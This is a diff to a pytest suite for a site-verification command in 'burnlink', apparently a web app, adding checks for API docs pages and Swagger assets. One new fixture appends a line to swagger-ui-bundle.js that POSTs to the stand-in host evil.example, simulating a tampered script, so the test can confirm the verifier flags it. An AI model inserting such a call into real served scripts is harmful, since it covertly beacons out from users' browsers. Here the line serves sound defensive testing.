@@ -462,7 +462,7 @@ def test_verify_site_accepts_a_server_that_sends_the_package_code(site: str) -> 
     result = _verify(site)
 
     assert result.exit_code == 0, result.output
-    assert result.stdout.startswith("OK: 4 pages and ")
+    assert result.stdout.startswith("OK: 5 pages and ")
     assert f"match burnlink {__version__}" in result.stdout
 
 
@@ -479,6 +479,9 @@ def test_verify_site_json_lists_every_file(site: str) -> None:
     for name in ("js/compose.js", "js/reveal.js", "js/receipt.js", "js/envelope.js"):
         assert f"{site}/static/{name}" in urls
     assert f"{site}/static/vendor/qrcode-generator-2.0.4.js" in urls
+    assert f"{site}/docs" in report["pages"]
+    for name in ("swagger/swagger-ui-bundle.js", "swagger/swagger-ui.css", "docs.js", "docs.css"):
+        assert f"{site}/static/{name}" in urls
     assert "NOT-SENT-KEY" not in result.stdout
 
 
@@ -501,6 +504,12 @@ def _modified_script_and_hashes(path: str, body: bytes) -> bytes:
         return evil
     if path.startswith(("/s/", "/m/")) or path in ("/", "/security"):
         return body.replace(pages.sri(original).encode(), pages.sri(evil).encode())
+    return body
+
+
+def _modified_swagger_ui(path: str, body: bytes) -> bytes:
+    if path == "/static/swagger/swagger-ui-bundle.js":
+        return body + b"\nfetch('https://evil.example/', {method: 'POST'});\n"
     return body
 
 
@@ -542,6 +551,11 @@ def _foreign_script(path: str, body: bytes) -> bytes:
             _modified_script_and_hashes,
             "static/js/envelope.js: integrity on ",
             id="bytes-and-integrity",
+        ),
+        pytest.param(
+            _modified_swagger_ui,
+            "static/swagger/swagger-ui-bundle.js: served bytes differ from this package's copy",
+            id="api-docs-bytes",
         ),
         pytest.param(_inline_script, "has an inline script", id="inline-script"),
         pytest.param(_foreign_script, "https://cdn.example/x.js: has no integrity", id="foreign"),
